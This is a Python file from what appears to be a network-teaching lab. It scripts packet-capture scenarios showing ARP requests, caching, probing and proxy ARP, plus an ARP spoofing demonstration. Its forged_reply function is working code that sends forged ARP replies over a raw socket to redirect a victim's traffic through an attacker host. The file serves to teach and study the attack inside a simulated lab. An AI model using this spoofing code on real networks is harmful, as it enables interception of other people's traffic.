"""Ethernet and ARP: how an IP address becomes a hardware address, and how that trust is abused."""

import socket
import struct

from . import scenario


@scenario("eth-arp", "ARP on one switched Ethernet: asking, caching, refreshing, probing, announcing",
          needs=["ping", "arping"],
          expect=["arp.request", "arp.reply", "arp.refresh", "arp.probe", "arp.announcement", "arp.unanswered",
                  "icmp.echo-request", "icmp.echo-reply"],
          shows=["arp.opcode == 1 && eth.dst == ff:ff:ff:ff:ff:ff",
                 "arp.opcode == 2 && eth.dst != ff:ff:ff:ff:ff:ff",
                 "arp.opcode == 1 && eth.dst == 02:00:0a:00:00:02", "arp.src.proto_ipv4 == 0.0.0.0",
                 "icmp.type == 8", "icmp.type == 0"])
def eth_arp(lab):
    """Three hosts on one Linux bridge, captured at alice (10.0.0.1). (1) ping of bob with an empty cache: broadcast
    request, unicast reply, echo. (2) The same ping again: no ARP. (3) The entry grows stale (its lifetime is tuned
    from 30 s to 4 s); the next ping uses it, and a second later alice checks it with a unicast request. (4) carol
    looks for bob: alice sees the broadcast, but not the reply. (5) alice probes 10.0.0.3, which carol has, then
    10.0.0.9, which is free, and announces 10.0.0.9 as her own. (6) alice looks for 10.0.0.99, which does not exist:
    three requests, no answer."""
    alice, bob, carol = lab.host("alice"), lab.host("bob"), lab.host("carol")
    at_alice, _, _ = lab.switch((alice, "10.0.0.1/24"), (bob, "10.0.0.2/24"), (carol, "10.0.0.3/24"))
    # An entry is fresh for 2 to 6 s (the kernel draws between half and one and a half times this), stale after.
    alice.sysctl({"net.ipv4.neigh.eth0.base_reachable_time_ms": 4000,
                  "net.ipv4.neigh.eth0.delay_first_probe_time": 1})
    lab.record(at_alice)

    alice.run("ping", "-c", 1, "10.0.0.2")
    lab.wait(0.2)
    alice.run("ping", "-c", 1, "10.0.0.2")
    lab.wait(7)
    alice.run("ping", "-c", 1, "10.0.0.2")
    lab.wait(2)
    carol.run("ping", "-c", 1, "10.0.0.2")
    lab.wait(0.2)
    alice.run("arping", "-0", "-c", 1, "-i", "eth0", "10.0.0.3")
    alice.attempt("arping", "-0", "-c", 1, "-i", "eth0", "10.0.0.9")
    alice.run("ip", "addr", "add", "10.0.0.9/24", "dev", "eth0")
    alice.attempt("arping", "-U", "-c", 1, "-i", "eth0", "-S", "10.0.0.9", "10.0.0.9")
    lab.wait(0.2)
    alice.attempt("ping", "-c", 1, "-W", 4, "10.0.0.99")


@scenario("arp-spoof", "Proxy ARP, and a forged ARP reply that draws a victim's packets to the attacker",
          needs=["ping"],
          expect=["arp.request", "arp.reply", "arp.unsolicited-reply", "arp.conflict", "icmp.echo-request",
                  "icmp.echo-reply"],
          shows=["arp.duplicate-address-detected",
                 "arp.src.proto_ipv4 == 10.0.0.1 && arp.src.hw_mac == 02:00:0a:00:00:42",
                 "ip.dst == 203.0.113.5 && eth.dst == 02:00:0a:00:00:01",
                 "ip.dst == 203.0.113.5 && eth.dst == 02:00:0a:00:00:42"])
def arp_spoof(lab):
    """victim (10.0.0.10), gateway (10.0.0.1) and attacker (10.0.0.66) on one Linux bridge; behind the gateway an
    outside host (203.0.113.5). Captured at the victim. (1) The victim pings the outside: ARP for the gateway, IP
    frames to the gateway's hardware address. (2) The victim is told that 203.0.113.8 is on its own link and asks
    for it: the gateway answers in its place (proxy_arp). (3) The attacker sends two ARP replies that nobody asked
    for: "10.0.0.1 is at my address". (4) The same ping as before: the victim's frames now go to the attacker, who
    passes them on; the answers come straight from the gateway. (5) The victim's cache
    is emptied; it asks again, and the gateway's true answer repairs it."""
    victim, gateway, attacker, outside = (lab.host("victim"), lab.router("gateway"), lab.router("attacker"),
                                          lab.host("outside"))
    at_victim, at_gateway, at_attacker = lab.switch(
        (victim, "10.0.0.10/24"), (gateway, "10.0.0.1/24"), (attacker, "10.0.0.66/24"))
    lab.link(gateway, "203.0.113.1/24", outside, "203.0.113.5/24")
    outside.run("ip", "addr", "add", "203.0.113.8/24", "dev", "eth0")
    outside.route("default", "via", "203.0.113.1")
    attacker.route("default", "via", "10.0.0.1")
    attacker.knows(at_gateway, at_victim)
    gateway.knows(at_attacker)
    attacker.sysctl({"net.ipv4.conf.all.send_redirects": 0, "net.ipv4.conf.eth0.send_redirects": 0})
    gateway.sysctl({"net.ipv4.conf.eth0.proxy_arp": 1,
                    "net.ipv4.neigh.eth0.proxy_delay": 0})  # else it waits a random time of up to 0.8 s
    victim.route("default", "via", "10.0.0.1")
    lab.record(at_victim)

    victim.run("ping", "-c", 1, "203.0.113.5")
    lab.wait(0.2)
    victim.route("203.0.113.8/32", "dev", "eth0")
    victim.run("ping", "-c", 1, "203.0.113.8")
    lab.wait(1.5)  # Linux does not let an entry be changed within a second of its last confirmation (locktime)
    for _ in range(2):
        forged_reply(attacker, at_attacker.mac, "10.0.0.1", at_victim.mac, "10.0.0.10")
        lab.wait(0.5)
    for _ in range(2):
        victim.run("ping", "-c", 1, "203.0.113.5")
        lab.wait(0.2)
    lab.wait(1)
    victim.run("ip", "neigh", "flush", "dev", "eth0")
    victim.run("ping", "-c", 1, "203.0.113.5")


def forged_reply(host, sender_mac, sender_ip, target_mac, target_ip):
    """Send "`sender_ip` is at `sender_mac`" to the target, true or not: ARP has no way to tell."""
    sender, target = (bytes.fromhex(mac.replace(":", "")) for mac in (sender_mac, target_mac))
    ethernet = target + sender + struct.pack("!H", 0x0806)
    arp = struct.pack("!HHBBH", 1, 0x0800, 6, 4, 2)
    arp += sender + socket.inet_aton(sender_ip) + target + socket.inet_aton(target_ip)
    raw = host.within(lambda: socket.socket(socket.AF_PACKET, socket.SOCK_RAW))
    with raw:
        raw.bind((host.ports[0].device, 0))
        raw.send(ethernet + arp)
